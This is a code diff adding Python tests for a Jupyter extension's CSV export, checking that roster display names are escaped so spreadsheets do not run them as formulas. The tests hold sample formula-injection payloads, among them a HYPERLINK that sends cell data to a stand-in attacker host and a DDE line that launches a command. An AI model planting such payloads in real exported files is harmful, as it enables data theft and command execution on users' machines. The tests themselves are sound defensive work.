@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import tarfile
 from datetime import datetime, timedelta
 
@@ -193,3 +195,30 @@ def test_spawn_rules_without_a_database_yet_and_with_a_broken_one(tmp_path):
     bad = tmp_path / "bad.sqlite"
     bad.write_bytes(b"this is not a sqlite file" * 100)
     assert "could not be read" in spawn_rules({"bio"}, f"sqlite:///{bad}").refusal
+
+
+def test_sheet_csv_neutralises_formulas_from_the_roster():
+    """Finding 9: roster display names must not run as spreadsheet formulas."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&C2,"click")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1)"]  # (tab, CR: the roster strips them; see safe_cell test)
+    roster = "username,display_name\n" + "".join(
+        f'ann{i},"{name.replace(chr(34), chr(34) * 2)}"\n' for i, name in enumerate(hostile))
+    seats = parse_roster(roster, "r.csv")
+    creds = [Credential(s.username, f"pw-{i}", s.display_name) for i, s in enumerate(seats)]
+    text = render_csv(ws(), creds, "http://hub/hub/login")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    cells = [r["display_name"] for r in rows]
+    assert [c for c in cells if not c.startswith("'")] == []
+    assert [c[1:] for c in cells] == [s.display_name for s in seats]
+    # every other cell is safe as well, and the passwords read back unchanged
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    assert read_csv(text) == {s.username: f"pw-{i}" for i, s in enumerate(seats)}
+
+
+def test_safe_cell_is_the_owasp_recipe():
+    from jupyter_ext.csvsafe import safe_cell, unguard_cell
+
+    for text in ("=1+1", "+A1", "-A1", "@A1", "\tx", "\rx", "-2+3"):
+        assert safe_cell(text) == "'" + text and unguard_cell(safe_cell(text)) == text
+    for value in ("plain", "a=b", "-12.50", "+3", "1e-3", 5, -2.5, None, ""):
+        assert safe_cell(value) == value
